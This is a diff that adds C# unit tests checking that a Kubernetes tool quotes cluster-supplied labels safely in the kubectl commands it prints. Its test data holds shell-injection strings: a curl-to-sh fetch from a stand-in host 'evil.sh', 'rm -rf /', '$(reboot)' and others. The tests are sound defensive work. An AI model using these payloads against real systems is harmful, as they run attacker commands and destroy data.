@@ -191,3 +191,50 @@ public sealed class RecommendationTests : IDisposable
         Assert.Equal("2", Cores.Quantity(2));
     }
 }
+
+/// <summary>Label values come from the cluster: the printed kubectl command must never run what they hold.</summary>
+public class ChangeWriterTests
+{
+    [Theory]
+    [InlineData("x;curl${IFS}evil.sh|sh;#", "web", "app")]
+    [InlineData("Deployment", "web'; rm -rf / #", "app")]
+    [InlineData("Deployment", "web", "app\"}]}}'; touch /tmp/pwned; echo '")]
+    [InlineData("CronJob", "$(reboot)", "`id`")]
+    public void Hostile_labels_stay_quoted_arguments(string kind, string workload, string container)
+    {
+        var key = new ThrottleWatch.Analyzer.Evidence.ContainerKey("shop", kind, workload, container);
+        var raise = ThrottleWatch.Analyzer.Rules.ChangeWriter.For(key, null, 1.5, removeLimit: false);
+        var remove = ThrottleWatch.Analyzer.Rules.ChangeWriter.For(key, 0.5, null, removeLimit: true);
+        Assert.Single(raise.Yaml.Split('\n'), l => l.StartsWith('#'));
+        if (kind is not ("Deployment" or "CronJob"))
+        {
+            // An unknown kind gets no command at all: nothing from the label is ever run.
+            Assert.StartsWith("#", raise.Command, StringComparison.Ordinal);
+            Assert.StartsWith("#", remove.Command, StringComparison.Ordinal);
+            Assert.DoesNotContain("curl", raise.Command, StringComparison.Ordinal);
+            return;
+        }
+        string target = kind.ToLowerInvariant() + "/" + workload;
+
+        // The shell, not a regex, says what the command is: each word must be exactly what was meant.
+        Assert.Equal(["kubectl", "-n", "shop", "set", "resources", target, "-c", container, "--limits=cpu=1500m"], ShellWords(raise.Command));
+
+        var words = ShellWords(remove.Command);
+        Assert.Equal(["kubectl", "-n", "shop", "patch", target, "--type=strategic", "-p"], words.Take(7));
+        Assert.Equal(8, words.Count);
+        var patch = System.Text.Json.Nodes.JsonNode.Parse(words[7])!;
+        var spec = kind == "CronJob" ? patch["spec"]!["jobTemplate"]!["spec"]!["template"]!["spec"]! : patch["spec"]!["template"]!["spec"]!;
+        Assert.Equal(container, spec["containers"]![0]!["name"]!.GetValue<string>());
+    }
+
+    /// <summary>Splits a command as sh would: by `sh -c 'printf "%s\0" …'`.</summary>
+    private static List<string> ShellWords(string command)
+    {
+        var psi = new System.Diagnostics.ProcessStartInfo("sh", ["-c", "printf '%s\\0' " + command["kubectl".Length..]]) { RedirectStandardOutput = true };
+        using var p = System.Diagnostics.Process.Start(psi)!;
+        var output = p.StandardOutput.ReadToEnd();
+        p.WaitForExit();
+        Assert.Equal(0, p.ExitCode);
+        return ["kubectl", .. output.Split('\0', StringSplitOptions.RemoveEmptyEntries)];
+    }
+}
